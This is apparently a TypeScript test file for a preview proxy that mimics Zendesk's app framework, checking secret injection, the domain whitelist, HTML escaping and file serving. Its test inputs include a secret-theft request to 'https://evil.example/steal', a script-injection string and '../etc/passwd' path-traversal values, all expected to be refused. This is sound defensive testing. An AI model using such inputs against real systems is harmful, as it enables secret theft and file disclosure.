import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileInside, rewriteAppHtml, STANDIN_PATH } from '../../../src/preview/app-package.js';
import { html } from '../../../src/preview/html.js';
import { proxyRequest, type ProxyOptions, type ProxyRequest } from '../../../src/preview/proxy.js';

describe('the preview proxy (Zendesk proxy stand-in)', () => {
  let server: Server;
  let origin: string;
  const seen: { url: string; authorization: string | undefined; body: string }[] = [];

  beforeAll(async () => {
    // A backend that reports what reached it.
    server = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk: Buffer) => (body += chunk.toString()));
      req.on('end', () => {
        seen.push({ url: req.url ?? '', authorization: req.headers.authorization, body });
        res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(
    () =>
      new Promise<void>((resolve) => {
        server.close(() => {
          resolve();
        });
      }),
  );

  const options = (): ProxyOptions => ({
    backendOrigin: origin,
    secureSettings: { app_secret: 's3cret' },
    helpdesk: { url: origin, authorization: 'Basic agent-session' },
  });
  const request = (over: Partial<ProxyRequest>): ProxyRequest => ({
    url: `${origin}/api/v1/requesters/1/context`,
    method: 'GET',
    headers: { Authorization: 'Bearer {{setting.app_secret}}' },
    body: null,
    contentType: null,
    secure: true,
    timeout: null,
    ...over,
  });

  it('puts the secure setting into the header of a secure request, server-side', async () => {
    const out = await proxyRequest(request({}), options());
    expect(out).toMatchObject({ status: 200, body: '{"ok":true}' });
    expect(seen.at(-1)).toMatchObject({ authorization: 'Bearer s3cret' });
  });

  it('leaves the placeholder alone without secure: true (the backend then refuses it)', async () => {
    await proxyRequest(request({ secure: false }), options());
    expect(seen.at(-1)?.authorization).toBe('Bearer {{setting.app_secret}}');
  });

  it('refuses placeholders outside headers and hosts outside the whitelist, sending nothing', async () => {
    const before = seen.length;
    const inUrl = await proxyRequest(
      request({ url: `${origin}/x?token={{setting.app_secret}}` }),
      options(),
    );
    const inBody = await proxyRequest(
      request({ method: 'POST', body: '{"t":"{{setting.app_secret}}"}' }),
      options(),
    );
    const elsewhere = await proxyRequest(request({ url: 'https://evil.example/steal' }), options());
    expect([inUrl.status, inBody.status, elsewhere.status]).toEqual([400, 400, 403]);
    expect(JSON.parse(elsewhere.body)).toEqual({
      error: {
        code: 'DOMAIN_NOT_WHITELISTED',
        message: 'https://evil.example is not in domainWhitelist',
      },
    });
    expect(seen.length).toBe(before);
  });

  it('sends same-domain /api/v2 calls to the helpdesk with the agent session', async () => {
    await proxyRequest(request({ url: '/api/v2/tickets/1.json', headers: {} }), options());
    expect(seen.at(-1)).toMatchObject({
      url: '/api/v2/tickets/1.json',
      authorization: 'Basic agent-session',
    });
  });

  it('answers 502 with an error body when the backend is down', async () => {
    const down = { ...options(), backendOrigin: 'http://127.0.0.1:9' };
    const out = await proxyRequest(request({ url: 'http://127.0.0.1:9/api/v1/alerts' }), down);
    expect(out.status).toBe(502);
    expect(JSON.parse(out.body)).toMatchObject({ error: { code: 'UPSTREAM_UNREACHABLE' } });
  });
});

describe('preview host pages and assets', () => {
  it('escapes interpolated text but not nested markup', () => {
    const subject = '<script>alert("x")</script> & more';
    const nested = html`<b>${'ok'}</b>`;
    // prettier-ignore
    const cell = html`<td>${subject}</td>${nested}`;
    expect(cell.value).toBe(
      '<td>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; more</td><b>ok</b>',
    );
  });

  it("points the app's ZAF SDK tag at the stand-in, and refuses a page without one", () => {
    const page =
      '<body><script src="https://static.zdassets.com/zendesk_app_framework_sdk/2.0/zaf_sdk.min.js"></script><script src="main.js"></script></body>';
    expect(rewriteAppHtml(page)).toBe(
      `<body><script src="${STANDIN_PATH}"></script><script src="main.js"></script></body>`,
    );
    expect(() => rewriteAppHtml('<body></body>')).toThrow(/ZAF SDK/);
  });

  it('serves files inside the app folder only', () => {
    expect(fileInside('/app', '/assets/main.js')).toBe('/app/assets/main.js');
    expect(fileInside('/app', '/assets/../../etc/passwd')).toBeNull();
    expect(fileInside('/app', '/assets/%2e%2e/%2e%2e/etc/passwd')).toBeNull();
  });
});
